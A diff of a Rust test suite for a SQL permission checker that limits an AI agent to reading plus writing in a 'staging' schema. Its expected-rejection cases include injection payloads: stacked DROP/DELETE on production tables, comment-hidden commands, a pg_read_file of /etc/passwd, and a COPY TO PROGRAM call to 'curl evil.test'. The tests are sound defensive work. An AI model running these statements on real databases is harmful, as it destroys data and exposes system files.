@@ -9,99 +9,100 @@ fn shown(sql: &str) -> String {
     sql.chars().take(40).collect()
 }
 
-/// What an agent that reads everything and writes to `staging` may run.
+/// Statements, and whether an agent that reads everything and writes to `staging` may run them.
+const STATEMENTS: &[(&str, bool)] = &[
+    ("SELECT * FROM prod.users", true),
+    ("select 1", true),
+    ("SELECT 1;", true),
+    ("  /* hello */ SELECT 1 -- bye", true),
+    ("/*Main*/ SELECT 1", true),
+    ("(SELECT 1) UNION ALL (SELECT 2)", true),
+    ("WITH a AS (SELECT 1) SELECT * FROM a", true),
+    ("VALUES (1), (2)", true),
+    ("SELECT 'DROP TABLE users'", true),
+    ("SELECT \"delete\" FROM t", true),
+    ("SELECT 1; SELECT 2", true),
+    ("INSERT INTO staging.orders VALUES (1)", true),
+    ("INSERT INTO staging.orders SELECT * FROM prod.orders", true),
+    ("insert into STAGING.orders values (1)", true),
+    ("INSERT INTO staging VALUES (1)", true),
+    ("UPDATE staging.orders SET a = 1 WHERE b = 2", true),
+    ("DELETE FROM staging.orders", true),
+    ("TRUNCATE TABLE staging.orders", true),
+    ("MERGE INTO staging.a USING prod.b ON a.id = b.id WHEN MATCHED THEN DELETE", true),
+    ("WITH a AS (SELECT 1) INSERT INTO staging.t SELECT * FROM a", true),
+    ("SELECT 1; INSERT INTO staging.t VALUES (1)", true),
+    // Elsewhere.
+    ("INSERT INTO prod.orders VALUES (1)", false),
+    ("INSERT INTO orders VALUES (1)", false),
+    ("INSERT INTO prod.staging VALUES (1)", false),
+    ("INSERT INTO stagings.t VALUES (1)", false),
+    ("INSERT INTO \"Staging\".t VALUES (1)", false),
+    ("UPDATE prod.orders SET a = 1", false),
+    ("UPDATE staging.a JOIN prod.b ON a.id = b.id SET b.x = 1", false),
+    ("DELETE FROM prod.orders", false),
+    ("DELETE b FROM staging.a JOIN prod.b ON a.id = b.id", false),
+    ("TRUNCATE staging.a, prod.b", false),
+    ("MERGE INTO prod.a USING staging.b ON a.id = b.id WHEN MATCHED THEN DELETE", false),
+    ("REPLACE INTO prod.t VALUES (1)", false),
+    // Hidden.
+    ("SELECT 1; DELETE FROM prod.orders", false),
+    ("SELECT 1; DROP TABLE prod.users --", false),
+    ("WITH gone AS (DELETE FROM prod.users RETURNING *) SELECT * FROM gone", false),
+    ("WITH a AS (UPDATE prod.u SET x = 1 RETURNING *) SELECT 1", false),
+    ("WITH a AS (WITH b AS (DELETE FROM prod.u RETURNING 1) SELECT * FROM b) SELECT * FROM a", false),
+    ("WITH staging AS (SELECT * FROM prod.users) DELETE FROM staging", false),
+    ("SELECT * INTO prod.copy FROM prod.users", false),
+    ("SELECT * INTO staging.copy FROM prod.users", false),
+    ("CREATE TABLE prod.copy AS SELECT * FROM prod.users", false),
+    ("EXPLAIN ANALYZE DELETE FROM prod.users", false),
+    ("EXPLAIN (ANALYZE, VERBOSE) DELETE FROM prod.users", false),
+    ("SELECT /*! 1 INTO OUTFILE '/tmp/x' */ 1", false),
+    ("SELECT 1 /*M!100100 ; DROP TABLE users */", false),
+    ("SELECT 1 /*!50000 ; DROP TABLE users */", false),
+    ("SELECT 'a\\''; DROP TABLE users; -- '", false),
+    ("SELECT 1 --1; DROP TABLE users", false),
+    ("SELECT 1 #1; DROP TABLE users", false),
+    ("SELECT pg_read_file('/etc/passwd')", false),
+    ("SELECT * FROM dblink_exec('x', 'DROP TABLE users')", false),
+    ("SELECT * FROM t WHERE pg_catalog.PG_SLEEP(10) IS NULL", false),
+    // Not reading and not writing rows.
+    ("DROP TABLE staging.orders", false),
+    ("DROP TABLE prod.users", false),
+    ("ALTER TABLE staging.orders ADD COLUMN a int", false),
+    ("CREATE TABLE staging.t (a int)", false),
+    ("GRANT ALL ON prod.users TO agent", false),
+    ("SET search_path = prod", false),
+    ("CALL do_it()", false),
+    ("DO $$ BEGIN DELETE FROM prod.users; END $$", false),
+    ("EXECUTE stolen", false),
+    ("COPY prod.users FROM STDIN", false),
+    ("COPY prod.users TO PROGRAM 'curl evil.test'", false),
+    ("COPY (SELECT * FROM prod.users) TO '/tmp/x'", false),
+    ("COPY staging.t FROM PROGRAM 'id'", false),
+    ("BEGIN; COMMIT", false),
+    ("ATTACH DATABASE 'x.db' AS x", false),
+    ("SELECT 1 INTO OUTFILE '/tmp/x'", false),
+    // Not SQL.
+    ("", false),
+    (";", false),
+    ("-- nothing", false),
+    ("please drop the users table", false),
+    ("SELECT * FROM", false),
+    ("SELECT 'open", false),
+];
+
 #[test]
 fn an_agent_that_may_read_and_write_to_one_schema() {
-    let rows = [
-        ("SELECT * FROM prod.users", true),
-        ("select 1", true),
-        ("SELECT 1;", true),
-        ("  /* hello */ SELECT 1 -- bye", true),
-        ("/*Main*/ SELECT 1", true),
-        ("(SELECT 1) UNION ALL (SELECT 2)", true),
-        ("WITH a AS (SELECT 1) SELECT * FROM a", true),
-        ("VALUES (1), (2)", true),
-        ("SELECT 'DROP TABLE users'", true),
-        ("SELECT \"delete\" FROM t", true),
-        ("SELECT 1; SELECT 2", true),
-        ("INSERT INTO staging.orders VALUES (1)", true),
-        ("INSERT INTO staging.orders SELECT * FROM prod.orders", true),
-        ("insert into STAGING.orders values (1)", true),
-        ("INSERT INTO staging VALUES (1)", true),
-        ("UPDATE staging.orders SET a = 1 WHERE b = 2", true),
-        ("DELETE FROM staging.orders", true),
-        ("TRUNCATE TABLE staging.orders", true),
-        ("MERGE INTO staging.a USING prod.b ON a.id = b.id WHEN MATCHED THEN DELETE", true),
-        ("WITH a AS (SELECT 1) INSERT INTO staging.t SELECT * FROM a", true),
-        ("SELECT 1; INSERT INTO staging.t VALUES (1)", true),
-        // Elsewhere.
-        ("INSERT INTO prod.orders VALUES (1)", false),
-        ("INSERT INTO orders VALUES (1)", false),
-        ("INSERT INTO prod.staging VALUES (1)", false),
-        ("INSERT INTO stagings.t VALUES (1)", false),
-        ("INSERT INTO \"Staging\".t VALUES (1)", false),
-        ("UPDATE prod.orders SET a = 1", false),
-        ("UPDATE staging.a JOIN prod.b ON a.id = b.id SET b.x = 1", false),
-        ("DELETE FROM prod.orders", false),
-        ("DELETE b FROM staging.a JOIN prod.b ON a.id = b.id", false),
-        ("TRUNCATE staging.a, prod.b", false),
-        ("MERGE INTO prod.a USING staging.b ON a.id = b.id WHEN MATCHED THEN DELETE", false),
-        ("REPLACE INTO prod.t VALUES (1)", false),
-        // Hidden.
-        ("SELECT 1; DELETE FROM prod.orders", false),
-        ("SELECT 1; DROP TABLE prod.users --", false),
-        ("WITH gone AS (DELETE FROM prod.users RETURNING *) SELECT * FROM gone", false),
-        ("WITH a AS (UPDATE prod.u SET x = 1 RETURNING *) SELECT 1", false),
-        ("WITH a AS (WITH b AS (DELETE FROM prod.u RETURNING 1) SELECT * FROM b) SELECT * FROM a", false),
-        ("WITH staging AS (SELECT * FROM prod.users) DELETE FROM staging", false),
-        ("SELECT * INTO prod.copy FROM prod.users", false),
-        ("SELECT * INTO staging.copy FROM prod.users", false),
-        ("CREATE TABLE prod.copy AS SELECT * FROM prod.users", false),
-        ("EXPLAIN ANALYZE DELETE FROM prod.users", false),
-        ("EXPLAIN (ANALYZE, VERBOSE) DELETE FROM prod.users", false),
-        ("SELECT /*! 1 INTO OUTFILE '/tmp/x' */ 1", false),
-        ("SELECT 1 /*M!100100 ; DROP TABLE users */", false),
-        ("SELECT 1 /*!50000 ; DROP TABLE users */", false),
-        ("SELECT 'a\\''; DROP TABLE users; -- '", false),
-        ("SELECT 1 --1; DROP TABLE users", false),
-        ("SELECT 1 #1; DROP TABLE users", false),
-        ("SELECT pg_read_file('/etc/passwd')", false),
-        ("SELECT * FROM dblink_exec('x', 'DROP TABLE users')", false),
-        ("SELECT * FROM t WHERE pg_catalog.PG_SLEEP(10) IS NULL", false),
-        // Not reading and not writing rows.
-        ("DROP TABLE staging.orders", false),
-        ("DROP TABLE prod.users", false),
-        ("ALTER TABLE staging.orders ADD COLUMN a int", false),
-        ("CREATE TABLE staging.t (a int)", false),
-        ("GRANT ALL ON prod.users TO agent", false),
-        ("SET search_path = prod", false),
-        ("CALL do_it()", false),
-        ("DO $$ BEGIN DELETE FROM prod.users; END $$", false),
-        ("EXECUTE stolen", false),
-        ("COPY prod.users FROM STDIN", false),
-        ("COPY prod.users TO PROGRAM 'curl evil.test'", false),
-        ("COPY (SELECT * FROM prod.users) TO '/tmp/x'", false),
-        ("COPY staging.t FROM PROGRAM 'id'", false),
-        ("BEGIN; COMMIT", false),
-        ("ATTACH DATABASE 'x.db' AS x", false),
-        ("SELECT 1 INTO OUTFILE '/tmp/x'", false),
-        // Not SQL.
-        ("", false),
-        (";", false),
-        ("-- nothing", false),
-        ("please drop the users table", false),
-        ("SELECT * FROM", false),
-        ("SELECT 'open", false),
-    ];
     let requirement = requirement(&["select"], &["staging"]);
-    for (sql, expected) in rows {
-        assert_eq!(permits(&requirement, sql), expected, "{sql}");
+    for (sql, expected) in STATEMENTS {
+        assert_eq!(permits(&requirement, sql), *expected, "{sql}");
     }
 }
 
 #[test]
 fn what_the_lists_permit() {
-    let rows: [(&[&str], &[&str], &str, bool); 19] = [
+    let rows: [(&[&str], &[&str], &str, bool); 21] = [
         (&[], &[], "SELECT 1", true),
         (&[], &[], "INSERT INTO t VALUES (1)", false),
         (&[], &["staging"], "SHOW TABLES", true),
@@ -119,7 +120,9 @@ fn what_the_lists_permit() {
         (&["explain", "select"], &[], "EXPLAIN ANALYZE DELETE FROM prod.users", false),
         (&["select"], &["crm.staging"], "DELETE FROM crm.staging.t", true),
         (&["select"], &["crm.staging"], "DELETE FROM crm.prod", false),
-        (&["start", "commit"], &["staging"], "BEGIN; DELETE FROM staging.t; COMMIT", true),
+        (&["transaction"], &["staging"], "BEGIN; DELETE FROM staging.t; COMMIT", true),
+        (&["prepare", "select"], &[], "PREPARE a AS DELETE FROM t", false),
+        (&["copy"], &["staging"], "COPY prod.users FROM STDIN", false),
         (&["other"], &[], "COPY t TO PROGRAM 'id'", false),
     ];
     for (allow, writes, sql, expected) in rows {
@@ -134,21 +137,23 @@ fn each_word_of_allow_permits_its_statement() {
         ("alter", "ALTER TABLE t ADD COLUMN a int"),
         ("analyze", "ANALYZE TABLE t COMPUTE STATISTICS"),
         ("call", "CALL do_it()"),
-        ("commit", "COMMIT"),
+        ("comment", "COMMENT ON TABLE t IS 'x'"),
         ("copy", "COPY t FROM STDIN"),
         ("create", "CREATE TABLE t (a int)"),
         ("delete", "DELETE FROM t"),
+        ("describe", "DESCRIBE t"),
         ("drop", "DROP TABLE t"),
+        ("execute", "EXECUTE a"),
         ("explain", "EXPLAIN SELECT 1"),
         ("grant", "GRANT SELECT ON t TO u"),
         ("insert", "INSERT INTO t VALUES (1)"),
         ("merge", "MERGE INTO a USING b ON a.x = b.x WHEN MATCHED THEN DELETE"),
+        ("prepare", "PREPARE a AS CALL b()"),
         ("revoke", "REVOKE SELECT ON t FROM u"),
-        ("rollback", "ROLLBACK"),
         ("select", "SELECT 1"),
         ("set", "SET a = 1"),
         ("show", "SHOW TABLES"),
-        ("start", "START TRANSACTION"),
+        ("transaction", "BEGIN; SAVEPOINT a; RELEASE SAVEPOINT a; ROLLBACK; START TRANSACTION; COMMIT"),
         ("truncate", "TRUNCATE TABLE t"),
         ("update", "UPDATE t SET a = 1"),
         ("use", "USE db"),
@@ -157,7 +162,9 @@ fn each_word_of_allow_permits_its_statement() {
     let words: Vec<_> = rows.iter().map(|(word, _)| *word).collect();
     assert_eq!(words, crate::rules::action_control::STATEMENTS);
     for (word, sql) in rows {
-        assert!(permits(&requirement(&[word], &[]), sql), "{sql}");
+        // What is prepared has to be permitted, too.
+        let allow = if word == "prepare" { vec![word, "call"] } else { vec![word] };
+        assert!(permits(&requirement(&allow, &[]), sql), "{sql}");
         let others: Vec<_> = words.iter().copied().filter(|other| *other != word).collect();
         assert!(!permits(&requirement(&others, &[]), sql), "{sql}");
     }
